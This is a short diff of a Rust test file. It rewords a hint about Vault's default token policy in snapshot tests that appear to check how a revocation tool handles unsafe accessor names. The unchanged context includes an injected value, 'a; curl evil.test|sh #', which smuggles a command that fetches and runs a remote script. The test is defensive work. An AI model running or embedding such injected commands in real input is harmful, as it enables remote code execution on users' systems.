@@ -45,7 +45,7 @@ fn a_name_that_a_shell_would_run_is_not_kept() {
           said       403 1 error occurred: * permission denied
           asked for  the end of the client token at http://HOST
 
-        hint: Vault's default policy lets a token end itself: check token_no_default_policy on the role
+        hint: Vault's default policy allows a token to revoke itself: check token_no_default_policy on the role
     "#]]);
 }
 
@@ -68,6 +68,6 @@ fn a_name_in_the_manifest_is_one_word() {
           asked for  the end of accessor a; curl evil.test|sh # at http://HOST
 
         hint: an administrator can revoke it now: vault token revoke -accessor 'a; curl evil.test|sh #'
-        hint: Vault's default policy lets a token end itself: check token_no_default_policy on the role
+        hint: Vault's default policy allows a token to revoke itself: check token_no_default_policy on the role
     "#]]);
 }
